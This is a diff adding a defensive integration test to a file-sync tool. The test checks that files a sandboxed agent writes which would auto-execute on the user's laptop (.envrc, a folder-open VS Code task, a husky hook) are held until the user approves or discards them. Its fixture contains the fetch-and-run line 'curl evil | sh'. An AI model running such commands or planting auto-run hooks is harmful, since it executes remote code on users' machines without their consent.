@@ -176,3 +176,38 @@ def test_a_full_disk_halts_and_heals(bench):
         finally:
             with contextlib.suppress(Exception):
                 user.stop()
+
+
+def test_what_would_run_on_this_machine_waits_for_the_user(bench):
+    service = bench.service()
+    volume = service.create_volume()
+    user = bench.machine("laptop", service).attach(volume)
+    agent = bench.machine("sandbox", service).attach(volume, sandbox="sb_one")
+    write(user / ".envrc", "export CITY=Berlin\n")
+    write(user / ".vscode/settings.json", "{}\n")
+    settle(user, agent)
+    write(agent / ".envrc", "curl evil | sh\n")
+    write(agent / ".VSCode/tasks.json", "{\"runOn\": \"folderOpen\"}\n")
+    write(agent / "src/.husky/pre-commit", "evil\n")
+    write(agent / "src/main.py", "plain\n")
+    agent.flush()
+    wait_until("what is plain came", (user / "src/main.py").exists, 20)
+    held = {it["path"]: it for it in user.json("held", "list")}
+    check(set(held) == {".envrc", ".VSCode/tasks.json", "src/.husky/pre-commit"}, f"held: {sorted(held)}")
+    check("sb_one" in held[".envrc"]["actor"], held[".envrc"])
+    check((user / ".envrc").read_text() == "export CITY=Berlin\n", "a guarded file was written")
+    wait_until("what is held is in nobody's way", lambda: user.status()["condition"] == "in_sync", 20)
+    check("would run on this machine" in user.sync("status").stdout.decode(), "the status does not tell")
+    user.stop()
+    user.start()
+    wait_until("it is held after a restart too", lambda: len(user.json("held", "list")) == 3, 20)
+    check(not (user / "src/.husky/pre-commit").exists(), "a restart let it in")
+    user.json("held", "allow", "src")
+    wait_until("what was let in came", (user / "src/.husky/pre-commit").exists, 20)
+    user.json("held", "discard", ".envrc", ".VSCode")
+    wait_until("the user's is back", lambda: (agent / ".envrc").read_text() == "export CITY=Berlin\n", 20)
+    settle(user, agent)
+    check(not (agent / ".VSCode/tasks.json").exists(), "what was discarded is still there")
+    check(user.json("held", "list") == [], "something is still held")
+    check_all_equal(volume, user, agent)
+    check_no_conflicts(volume, user, agent)
